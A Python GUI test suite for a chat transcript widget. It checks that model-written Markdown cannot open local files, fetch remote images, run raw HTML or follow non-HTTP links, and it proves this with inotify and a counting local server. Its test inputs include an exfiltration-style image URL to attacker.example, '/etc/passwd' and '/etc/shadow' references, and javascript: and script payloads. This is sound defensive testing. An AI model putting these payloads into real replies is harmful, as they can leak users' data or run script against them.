"""Hostile Markdown from a model must not read files, reach the network, run HTML or open links unasked.

Checked where replies are really shown: the transcript, rendering through ui.markdown into the safe
documents of ui.safe_browser, laid out and painted for real.
"""

from __future__ import annotations

import ctypes
import os
import sys
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from PySide6.QtCore import QEvent, QPoint, Qt, QTimer, QUrl
from PySide6.QtGui import QColor, QFont, QHelpEvent, QImage, QTextDocument
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QMessageBox, QToolTip, QWidget
from pytestqt.qtbot import QtBot

from ui.markdown import Segment
from ui.message_row import TranscriptEntry
from ui.safe_browser import blocked_image, confirm_open_url
from ui.transcript import Transcript

pytestmark = pytest.mark.gui


def _write_png(path: Path) -> bytes:
    image = QImage(32, 32, QImage.Format.Format_RGB32)
    image.fill(QColor("red"))
    assert image.save(str(path))
    return path.read_bytes()


class _Recorder:
    def __init__(self, answer: bool = False) -> None:
        self.answer = answer
        self.confirmed: list[str] = []
        self.opened: list[str] = []

    def confirm(self, parent: QWidget, url: QUrl) -> bool:
        self.confirmed.append(url.toString())
        return self.answer

    def open(self, url: QUrl) -> bool:
        self.opened.append(url.toString())
        return True


def _transcript(qtbot: QtBot, markdown: str, links: _Recorder | None = None) -> Transcript:
    """The reply `markdown` as message 1, laid out and painted for real: that is when Qt asks for images."""
    links = links if links is not None else _Recorder()
    view = Transcript(confirm_open=links.confirm, open_url=links.open)
    qtbot.addWidget(view)
    view.resize(500, 400)
    view.show()
    qtbot.waitExposed(view)
    view.set_entries([TranscriptEntry(1, "assistant", markdown)])
    view.viewport().grab()
    QApplication.processEvents()
    return view


def _segments(view: Transcript) -> list[Segment]:
    row = view.row(1)
    assert row is not None
    segments = [segment for _top, segment in row.body_segments()]
    assert segments, "the reply was never rendered, so the test proves nothing"
    return segments


def _shown_text(view: Transcript) -> str:
    row = view.row(1)
    assert row is not None
    return row.rendered_text()


class _FileOpenWatch:
    """inotify watch: sees opens and reads of a file by any code in any process, Qt's C++ included."""

    IN_ACCESS = 0x1
    IN_OPEN = 0x20

    def __init__(self, path: Path) -> None:
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._fd = self._libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self._fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1 failed")
        if self._libc.inotify_add_watch(self._fd, os.fsencode(path), self.IN_OPEN | self.IN_ACCESS) < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch failed")

    def events(self) -> int:
        count = 0
        while True:
            try:
                data = os.read(self._fd, 4096)
            except BlockingIOError:
                return count
            offset = 0
            while offset < len(data):
                name_len = int.from_bytes(data[offset + 12 : offset + 16], sys.byteorder)
                offset += 16 + name_len
                count += 1

    def close(self) -> None:
        os.close(self._fd)


@pytest.mark.skipif(sys.platform != "linux", reason="uses inotify to watch for file opens")
def test_local_image_named_by_the_model_is_never_opened(
    qtbot: QtBot, tmp_path: Path, refusals: list[str]
) -> None:
    secret = tmp_path / "secret.png"
    secret_bytes = _write_png(secret)
    url = QUrl.fromLocalFile(str(secret))
    watch = _FileOpenWatch(secret)
    try:
        view = _transcript(qtbot, f"Look: ![x]({url.toString()}) and ![y]({secret}) and ![z](<{secret}>)")

        assert watch.events() == 0, "Qt opened the file the model pointed at"
        # Qt did ask, and was refused with the placeholder rather than the file's pixels.
        assert url.toString() in refusals
        (segment,) = _segments(view)
        image = QTextDocument.ResourceType.ImageResource.value
        resource = segment.document.resource(image, url)
        assert isinstance(resource, QImage)
        assert resource == blocked_image()
        assert resource.size() != QImage.fromData(secret_bytes).size()
        # Asked again, directly: the document still never loads it.
        assert segment.document.loadResource(image, url) == blocked_image()
        assert watch.events() == 0

        # The watch is not blind: an open by anyone is seen.
        assert secret.read_bytes() == secret_bytes
        assert watch.events() > 0
    finally:
        watch.close()


@pytest.mark.parametrize(
    "name",
    [
        "file:///home/u/secret.png",
        "https://attacker.example/?q=data",
        "\\\\server\\share\\x.png",
        "//server/share/x.png",
        "smb://server/share/x.png",
        "qrc:/qt-project.org/styles/commonstyle/images/file-16.png",
        ":/qt-project.org/styles/commonstyle/images/file-16.png",
        "data:image/png;base64,iVBORw0KGgo=",
    ],
)
def test_every_image_name_gets_the_placeholder(qtbot: QtBot, refusals: list[str], name: str) -> None:
    view = _transcript(qtbot, f"![x](<{name}>)")

    assert refusals, "Qt never asked for the image, so the test proves nothing"
    asked = QUrl(refusals[0])
    (segment,) = _segments(view)
    resource = segment.document.resource(QTextDocument.ResourceType.ImageResource.value, asked)
    assert resource == blocked_image()


class _CountingHandler(BaseHTTPRequestHandler):
    requests = 0
    png = b""

    def do_GET(self) -> None:
        type(self).requests += 1
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(self.png)))
        self.end_headers()
        self.wfile.write(self.png)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def image_server(tmp_path: Path) -> Iterator[tuple[str, type[_CountingHandler]]]:
    handler = type("Handler", (_CountingHandler,), {"requests": 0, "png": _write_png(tmp_path / "x.png")})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def test_remote_images_make_no_request(
    qtbot: QtBot, image_server: tuple[str, type[_CountingHandler]], refusals: list[str]
) -> None:
    base, handler = image_server
    _transcript(
        qtbot,
        f'![]({base}/x.png)\n\n![leak]({base}/?q=secret-data)\n\n<img src="{base}/raw.png">',
    )
    # Qt asked for an image (and was refused), so the count below proves something.
    assert f"{base}/?q=secret-data" in refusals
    qtbot.wait(300)

    assert handler.requests == 0
    # The server does count: a deliberate request is seen.
    with urllib.request.urlopen(f"{base}/x.png", timeout=5) as response:
        assert response.read()
    assert handler.requests == 1


def test_raw_html_is_shown_as_text(qtbot: QtBot) -> None:
    html = '<img src="file:///etc/passwd"> <script>alert(1)</script> <b>bold</b>\n\n<div>block</div>'
    view = _transcript(qtbot, html)

    text = _shown_text(view)
    assert '<img src="file:///etc/passwd">' in text
    assert "<script>alert(1)</script>" in text
    assert "<b>bold</b>" in text
    assert "<div>block</div>" in text
    cursor = _segments(view)[0].document.find("bold")
    assert not cursor.isNull()
    assert cursor.charFormat().fontWeight() != QFont.Weight.Bold
    assert "\ufffc" not in text, "an object (image) was created from raw HTML"


def _hover_help(view: Transcript, point: QPoint) -> None:
    event = QHelpEvent(QEvent.Type.ToolTip, point, view.viewport().mapToGlobal(point))
    QApplication.sendEvent(view.viewport(), event)


def test_titles_never_reach_a_rich_text_tooltip(qtbot: QtBot) -> None:
    view = _transcript(
        qtbot,
        "[here](https://example.com/a?b=<c> \"<img src='file:///etc/passwd'>\") "
        "![pic](x.png \"<img src='file:///etc/shadow'>\")",
    )
    (segment,) = _segments(view)
    document = segment.document

    link = document.find("here").charFormat()
    assert link.toolTip() == "<p>https://example.com/a?b=&lt;c&gt;</p>"
    image_cursor = document.find("\ufffc")
    assert not image_cursor.isNull()
    assert image_cursor.charFormat().toolTip() == ""

    # What hovering shows: the escaped target for the link, nothing for the image; never a title.
    _hover_help(view, view.text_point(1, "\ufffc"))
    assert "shadow" not in QToolTip.text()
    _hover_help(view, view.text_point(1, "here"))
    assert QToolTip.text() == "<p>https://example.com/a?b=&lt;c&gt;</p>"


def _click_link(view: Transcript, label: str) -> None:
    point = view.text_point(1, label)
    # From elsewhere first: a move to where the pointer already is sends no event.
    QTest.mouseMove(view.viewport(), QPoint(1, 1))
    QTest.mouseMove(view.viewport(), point)
    # The pointer became a hand: the transcript sees a link under it, so the click lands on one.
    assert view.viewport().cursor().shape() == Qt.CursorShape.PointingHandCursor, label
    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)


@pytest.mark.parametrize(
    "target",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "smb://server/share",
        "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
        "notes.txt",
        "ftp://example.com/x",
        "https:///no-host",
    ],
)
def test_non_http_links_do_nothing(qtbot: QtBot, target: str) -> None:
    recorder = _Recorder(answer=True)
    view = _transcript(qtbot, f"[clickme](<{target}>)", recorder)

    _click_link(view, "clickme")

    assert recorder.confirmed == []
    assert recorder.opened == []
    assert _shown_text(view) == "clickme", "the transcript navigated"


@pytest.mark.parametrize("answer", [False, True])
def test_http_link_asks_first_and_opens_only_when_accepted(qtbot: QtBot, answer: bool) -> None:
    url = "https://example.com/some/long/path?query=value&other=2#frag"
    recorder = _Recorder(answer=answer)
    view = _transcript(qtbot, f"[docs]({url})", recorder)

    _click_link(view, "docs")

    assert recorder.confirmed == [url]
    assert recorder.opened == ([url] if answer else [])


def test_confirmation_dialog_shows_the_full_url(qtbot: QtBot) -> None:
    parent = QWidget()
    qtbot.addWidget(parent)
    url = QUrl("https://bücher.example/<b>path</b>?token=abc#x")
    seen: list[str] = []

    def answer() -> None:
        box = QApplication.activeModalWidget()
        assert isinstance(box, QMessageBox)
        seen.append(box.informativeText())
        assert box.textFormat() == Qt.TextFormat.PlainText
        box.button(QMessageBox.StandardButton.Cancel).click()

    QTimer.singleShot(0, answer)
    assert confirm_open_url(parent, url) is False
    assert seen == ["https://xn--bcher-kva.example/%3Cb%3Epath%3C/b%3E?token=abc#x"]


def test_cjk_text_round_trips(qtbot: QtBot) -> None:
    view = _transcript(qtbot, "漢字とかな、한국어, 中文 **粗体** `代码`")

    assert _shown_text(view) == "漢字とかな、한국어, 中文 粗体 代码"
